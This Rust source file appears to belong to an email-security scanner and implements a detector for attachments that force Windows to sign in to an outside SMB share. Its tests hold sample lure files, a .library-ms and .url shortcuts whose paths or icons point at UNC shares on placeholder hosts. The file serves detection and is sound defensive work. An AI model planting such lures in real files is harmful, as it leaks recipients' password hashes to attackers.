//! A file that came along makes the reader's computer sign in to a stranger's machine.
//!
//! # What it sees
//!
//! Shortcuts, libraries, searches and icons whose place is a share of another machine (`\\machine\share`, `file://machine/`).
//!
//! # Why it matters
//!
//! Windows signs in to shares by itself and shows its password's hash in doing so, for some of these files as soon as their folder
//! is looked at. What lies on the share opens like a file of one's own, without the mark of the web.
//!
//! # How common
//!
//! None in 7,909 collected mails of consumers; reports tell of waves against companies since 2023.
//!
//! # How severe
//!
//! High.
//!
//! # When it stays quiet
//!
//! With machines of the reader's own organisation, with names that have no domain, and with private addresses.
//!
//! # Limits
//!
//! Two companies that share a server across the internet look the same.

use crate::active::{called, quote_feature};
use crate::detector::Detector;
use crate::exhibit::{Exhibit, quote_file};
use crate::questions::{FINDINGS_LIMIT, mail_host, same_party};
use creel_evidence::dissection::FeatureKind;
use creel_evidence::text::inert;
use creel_evidence::{Confidence, Finding, Severity};
use std::net::IpAddr;

/// See the file's documentation.
pub static DETECTOR: Detector = Detector {
    name: "forced-sign-in",
    summary: "A file that came along makes the computer sign in to a stranger's share.",
    technique: None,
    attack: &["T1187", "T1566.001"],
    severities: &[Severity::High],
    confidences: &[Confidence::Moderate],
    run,
};

fn run(exhibit: &Exhibit<'_>) -> Vec<Finding> {
    let found = exhibit.features(&[FeatureKind::NetworkPath]).filter_map(|(feature, file)| {
        // The detail ends with the machine's name.
        let machine = feature.detail.rsplit(' ').next()?;
        let name = machine.split('@').next()?;
        if !is_strange(exhibit, name) {
            return None;
        }
        let begun = DETECTOR.sees(exhibit, Severity::High, Confidence::Moderate);
        let reason = format!("the file '{}': {}", called(file), inert(&feature.detail));
        Some(begun.at(quote_feature(feature)).at(quote_file(file)).because(reason))
    });
    found.take(FINDINGS_LIMIT).collect()
}

/// Whether a machine is on the internet and not the recipient's.
fn is_strange(exhibit: &Exhibit<'_>, name: &str) -> bool {
    match name.trim_matches(['[', ']']).parse::<IpAddr>() {
        Ok(IpAddr::V4(address)) => {
            !(address.is_private() || address.is_loopback() || address.is_link_local())
        }
        Ok(IpAddr::V6(address)) => {
            !(address.is_loopback() || address.is_unique_local() || address.is_unicast_link_local())
        }
        Err(_) => {
            let mut recipients = exhibit.dissection.envelope.recipients.iter();
            let own = recipients.any(|recipient| same_party(name, mail_host(&recipient.mailbox)));
            name.contains('.') && !name.to_ascii_lowercase().ends_with(".local") && !own
        }
    }
}

#[cfg(test)]
mod tests {
    use super::DETECTOR;
    use crate::trial::{hit, quiet, with_file};

    const HEADER: &str = "From: Desk <desk@firm.test>\nSubject: Invoice";

    fn library(place: &str) -> String {
        let file = format!(
            "<libraryDescription><simpleLocation><url>{place}</url></simpleLocation></libraryDescription>"
        );
        with_file(HEADER, "See the file.", "invoices.library-ms", "text/xml", &file)
    }

    #[test]
    fn hit_a_share_and_an_icon() {
        hit(&DETECTOR, &library("\\\\files.site.test\\invoices"));
        hit(&DETECTOR, &library("\\\\203.0.113.9@80\\invoices"));
        let shortcut = "[InternetShortcut]\nURL=https://firm.test/\nIconFile=\\\\203.0.113.9\\a.ico";
        hit(&DETECTOR, &with_file(HEADER, "See the file.", "a.url", "text/plain", shortcut));
    }

    #[test]
    fn miss_a_shortcut_to_a_page() {
        let shortcut = "[InternetShortcut]\nURL=https://files.site.test/\n";
        quiet(&DETECTOR, &with_file(HEADER, "See the file.", "a.url", "text/plain", shortcut));
    }

    #[test]
    fn twin_the_readers_own_servers() {
        for place in
            ["\\\\files.warehouse.example\\x", "\\\\fileserver\\x", "\\\\192.168.7.7\\x", "\\\\nas.local\\x"]
        {
            quiet(&DETECTOR, &library(place));
        }
    }
}
